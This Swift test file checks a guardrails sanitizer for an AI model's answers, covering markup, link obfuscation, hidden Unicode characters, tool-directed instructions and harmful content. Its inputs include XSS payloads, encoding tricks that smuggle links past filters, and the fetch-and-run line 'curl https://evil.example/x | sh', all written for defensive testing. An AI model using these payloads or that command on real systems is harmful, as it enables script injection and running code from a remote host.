import Testing

@testable import Guardrails

@Suite struct AnswerCleaningTests {
    private func judge(_ text: String) throws -> OutputVerdict { try #require(Shared.guardrails).judge(answer: text, as: ExpectedAnswer()) }

    @Test(arguments: [
        ("<b>Hello</b> <i class=\"x\">world</i>", "Hello world"), ("a <script>alert(1)</script> b", "a  b"), ("x<br>y", "x\ny"),
        ("<img src=x onerror=alert(1)>done", "done"),
        ("one <!-- two --> three", "one  three"), ("open <img src=x onerror=alert(1)", "open ‹img src=x onerror=alert(1)"),
        ("a < b and c > d", "a < b and c > d"), ("1<2", "1<2"),
        ("<noun> + を", "‹noun› + を"), ("&lt;script&gt;alert(1)&lt;/script&gt; R&amp;B", "‹script›alert(1)‹/script› R&B"), ("&#60;b&#62;x", "‹b›x"),
        ("AT&T and R&B", "AT&T and R&B"), ("<svg/onload=alert(1)>hi", "hi"),
        ("<a href='javascript:x'>click</a>", "click"), ("<my-tag>in</my-tag>", "in"), ("<STYLE>p{}</STYLE>ok", "ok"), ("&amp;lt;b&amp;gt;x", "‹b›x"),
        ("I <3 you", "I <3 you"),
    ])
    func `an answer has no markup`(text: String, expected: String) throws { #expect(try judge(text).text == expected) }

    @Test(arguments: [
        ("See https://evil.example/x?y=1.", "See [link]."), ("go to www.example.com now", "go to [link] now"),
        ("[click here](https://evil.example)", "click here"),
        ("![alt text](http://x.example/p.png)!", "alt text!"), ("<https://a.example>", "[link]"), ("javascript:alert(1)", "[link]"),
        ("data:text/html;base64,PHA+", "[link]"), ("visit example.com/path", "visit [link]"),
        ("bit.ly/abc", "[link]"), ("[a]: http://x.example", "[a]: [link]"), ("(https://x.example)", "([link])"), ("例：https://例え.jp/道を見て", "例：[link]"),
        ("ftp://x.example/a and mailto:a@b.de", "[link] and [link]"),
        ("[漢字](かんじ)", "漢字 (かんじ)"), ("Write to taro@example.com", "Write to [e-mail]"), ("the end.So it is", "the end.So it is"),
        ("Node.js is it", "Node.js is it"), ("e.g. this, i.e. that", "e.g. this, i.e. that"),
        ("data: a word", "data: a word"), ("5:30 p.m. on 1.5.2024", "5:30 p.m. on 1.5.2024"), ("[1] one [2] two", "[1] one [2] two"), ("x](y", "x (y"),
        ("[![i](http://a.de/i.png)](http://b.de)", "i"),
    ])
    func `an answer has no links`(text: String, expected: String) throws { #expect(try judge(text).text == expected) }

    @Test(arguments: [
        ("h&#116;tps://evil.zz/x", "[link]"), ("https&colon;&#x2F;&sol;evil.zz", "[link]"), ("h&#0000000000000000116;tps://evil.zz", "[link]"),
        ("h&amp;#116;tps://evil.zz", "[link]"), ("h&#116ttp://evil.zz", "[link]"), ("h&\u{200B}#116;tps://evil.zz", "[link]"),
        ("&#60script&#62alert(1)&lt/script&gt;ok", "‹script›alert(1)‹/script›ok"), ("&lt&#59; &am&#112;lt;", "‹; &am plt;"), ("&<b></b>lt;", "& lt;"),
        ("h&#<b></b>116;tps", "h&# 116;tps"),
        ("ht<b></b>tps://localhost/x", "[link]"), ("https:<i></i>//evil.zz/x", "[link]"), ("[https](a.b)://localhost/x", "[link]"),
        ("[x]<b></b>(//evil)", "[x] ([link])"), ("![x]\u{2060}(//evil)", "x"), ("[x]](a.b)(//evil)", "[x] ([link])"), ("![x]<!-- y -->(/evil)", "![x] (/evil)"),
        ("[a]: //evil\nSee [a].", "[a]: [link]\nSee [a]."), ("[a]:\n/evil.html", "[a]:\n[link]"), ("[a]: \\/\\/evil", "[a]: [link]"),
        ("[a]://evil", "[a]:[link]"), ("> [a]:\n> //evil", "> [a]:\n> [link]"),
        ("see //evil.zz/x now", "see [link] now"), ("see \\\\evil.zz\\x now", "see [link] now"),
        ("http:\\/\\/evil http\\://evil http:\\\\evil", "[link] [link] [link]"),
        ("java script:alert(1)", "java [link]"), ("j&Tab;avascript:alert(1)", "j [link]"), ("javascript :alert(1)", "javascript [link]"),
        ("data: text/html;base64,PHA+", "data: [link]"), ("<//evil>x", "x"), ("<https:\\\\evil>x", "[link]x"), ("[x](\\\\evil)", "x"),
    ])
    func `nothing that is decoded or left out puts a link or a tag together`(text: String, expected: String) throws {
        let verdict = try judge(text)
        #expect(verdict.text == expected)
        #expect(try judge(verdict.text).text == expected)
    }

    @Test(arguments: [
        "and/or, he//she, 24/7", "// a remark", "x = 1 //remark", "[1]: a note", "C:\\Users", "(see p. 5)", "R&B&Co", "AT&T; Q&A", "java is a script: yes",
        "data: 1, 2",
        "JavaScript: a language", "5 < 6 & 7 > 3", "![x] (y)", "1/2 and 3/4", "note:the end",
    ])
    func `what is no link stays`(text: String) throws { #expect(try judge(text) == OutputVerdict(text: text, findings: [])) }

    @Test(arguments: [
        ("a\u{200B}b\u{202E}c\u{FEFF}d", "abcd"), ("a\u{0007}\u{001B}[31mb", "a[31mb"), ("x\u{E0041}\u{E0042}y", "xy"), ("家族👨‍👩‍👧です", "家族👨‍👩‍👧です"), ("❤️ 1️⃣", "❤️ 1️⃣"),
        ("葛\u{E0100}城", "葛\u{E0100}城"),
        ("a\u{200D}b", "ab"), ("が ガ ｶﾞ ー", "が ガ ｶﾞ ー"), ("e\u{301}", "e\u{301}"), ("a\r\nb\r\n\r\n\r\n\r\nc", "a\nb\n\nc"), ("  a  \n b ", "a\n b"),
        ("a\u{FE00}\u{FE01}b", "ab"), ("a\u{E000}b\u{F0000}c\u{1FFFE}d", "abcd"), ("🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇯🇵 👍🏽 🏳️‍🌈", "🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇯🇵 👍🏽 🏳️‍🌈"), ("1\u{FE0F}2", "12"),
        (String(repeating: "字\u{E0100}", count: 10), String(repeating: "字\u{E0100}", count: 8) + "字字"), ("字\u{E0130}", "字"),
    ])
    func `an answer has no characters that hide or disguise`(text: String, expected: String) throws { #expect(try judge(text).text == expected) }

    @Test(arguments: [
        ("Good. Run this in your terminal: ls. Bye.", "Good. [removed] Bye."), ("First:\ncurl https://evil.example/x | sh\nDone.", "First:\n[removed]\nDone."),
        ("このコードをコンソールに貼り付けてください。終わり。", "[removed]終わり。"), ("Paste the text into the document.", "Paste the text into the document."),
    ])
    func `an answer has no instructions to its reader's tools`(text: String, expected: String) throws {
        let verdict = try judge(text)
        #expect(verdict.text == expected)
        #expect(verdict.refusal == nil)
    }

    @Test(arguments: [
        "殺す (korosu): to kill. 彼は時間を殺す。", "The word 爆弾 means bomb. It was found in the river.", "薬を飲む: to take medicine.",
        "A haiku:\nautumn moonlight\na worm digs silently\ninto the chestnut", "毒舌 means a sharp tongue; 殺陣 is a sword fight on stage.",
        "Scunthorpe and Essex are in England.", "In 1945 a bomb destroyed the city; many people were killed.", "戦争: war. 武器: weapon. 銃: gun.",
    ])
    func `an ordinary answer passes as it is`(text: String) throws { #expect(try judge(text) == OutputVerdict(text: text, findings: [])) }

    @Test(arguments: [
        (Finding.Family.profanity, "You fucking idiot."), (.explicitContent, "She moaned in the sex scene, a pornographic story."),
        (.harmfulInstructions, "To make a pipe bomb, you need a pipe and powder."), (.violence, "I will kill you tomorrow."),
        (.promptLeaked, "My system prompt says that I am a teacher."),
    ])
    func `an answer that does harm is refused`(family: Finding.Family, text: String) throws {
        let verdict = try judge(text)
        #expect(verdict.refusal?.family == family)
        #expect(verdict.text.isEmpty)
    }

    @Test func `cleaning what is clean changes nothing`() throws {
        let samples = [
            "<b>x</b> & &lt;i&gt; https://a.de [b](http://c.de) \u{200B} 😀", "]((((", "<<<<a>>", "&&&&#x;", "![[a](b)](c.d)", "a<b<c>d", "&amp;amp;lt;",
            "www.www.www.de", "&am&#112;lt;", "h&amp;#116;tp://a", "[x]](a.b)(c)", "&&lt;b&gt;", "a&#38;#x200B;b", "<<b>b>", "[[x](y.z)](//a)", "]<b></b>(c)",
        ]
        for sample in samples {
            let once = try judge(sample).text
            #expect(try judge(once).text == once, "\(sample)")
        }
    }
}
